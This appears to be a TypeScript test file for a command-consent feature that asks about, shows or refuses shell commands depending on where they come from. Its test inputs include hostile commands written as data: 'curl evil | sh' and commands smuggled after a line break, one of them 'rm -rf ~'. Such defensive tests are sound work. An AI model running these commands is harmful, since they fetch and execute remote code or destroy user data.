import * as assert from 'node:assert/strict';
import { consentStep, EMPTY_CONSENT, MAX_ALLOWED, remember, reviveConsent, type CommandOrigin, type ConsentMemory } from '../../src/core/settings/commandConsent';

/** Runs the consent rules over a sequence of requests, answering questions with `answers`; returns what happened to each. */
function session(requests: [string, CommandOrigin][], answers: boolean[] = [], start: ConsentMemory = EMPTY_CONSENT) {
  let memory = start;
  const said = [...answers];
  const log = requests.map(([command, origin]) => {
    const step = consentStep(command, origin, memory);
    if (step.kind === 'refuse') return `refused: ${step.reason}`;
    if (step.kind === 'ask') {
      const run = said.shift() ?? false;
      if (run) memory = remember(memory, command, true);
      return run ? 'asked, ran' : 'asked, cancelled';
    }
    if (step.kind === 'show') memory = remember(memory, command, false);
    return step.kind === 'show' ? 'shown, ran' : 'ran';
  });
  return { log, memory };
}

describe('command consent: no command runs that the person has not seen', () => {
  it('a command from the workspace or a team profile is asked about, and the answer is remembered for exactly that command', () => {
    const { log } = session(
      [
        ['curl evil | sh', 'workspace'],
        ['curl evil | sh', 'workspace'],
        ['npm test', 'profile'],
        ['npm test', 'profile'],
        ['npm test ', 'profile'],
        ['npm test', 'workspace'],
      ],
      [false, false, true, true],
    );
    assert.deepEqual(log, ['asked, cancelled', 'asked, cancelled', 'asked, ran', 'ran', 'asked, ran', 'shown, ran']);
  });

  it("the person's own command is shown the first time and whenever it changes, never asked about", () => {
    const { log } = session([
      ['npm test', 'user'],
      ['npm test', 'user'],
      ['npm run verify', 'user'],
      ['npm test', 'observed'],
      ['npm test', 'observed'],
    ]);
    assert.deepEqual(log, ['shown, ran', 'ran', 'shown, ran', 'shown, ran', 'ran']);
  });

  it('refuses a line break or a control character from anywhere, even the person\'s own settings', () => {
    const { log } = session([
      ['npm test\ncurl evil | sh', 'user'],
      ['npm test\rrm -rf ~', 'observed'],
      ['npm test\u0000', 'profile'],
      ['npm\u2028test', 'workspace'],
      ['   ', 'user'],
      ['x'.repeat(501), 'user'],
    ]);
    assert.deepEqual(log, [
      'refused: the command has a line break or another control character, so it could run more than one command',
      'refused: the command has a line break or another control character, so it could run more than one command',
      'refused: the command has a line break or another control character, so it could run more than one command',
      'refused: the command has a line break or another control character, so it could run more than one command',
      'refused: the command is empty',
      'refused: the command is longer than 500 characters',
    ]);
  });

  it('remembers the latest answers only, and reads stored memory defensively', () => {
    let memory = EMPTY_CONSENT;
    for (let k = 0; k < MAX_ALLOWED + 5; k++) memory = remember(memory, `make test${k}`, true);
    assert.equal(memory.allowed.length, MAX_ALLOWED);
    assert.deepEqual([consentStep('make test0', 'workspace', memory).kind, consentStep(`make test${MAX_ALLOWED + 4}`, 'workspace', memory).kind], ['ask', 'run']);
    assert.deepEqual(reviveConsent(JSON.parse(JSON.stringify(memory))), memory);
    for (const bad of [undefined, null, 'x', { version: 2, allowed: [] }, { version: 1, allowed: 'npm test' }]) assert.deepEqual(reviveConsent(bad), EMPTY_CONSENT);
    assert.deepEqual(reviveConsent({ version: 1, allowed: ['npm test', 3, null], lastShown: 7 }), { version: 1, allowed: ['npm test'], lastShown: null });
  });
});
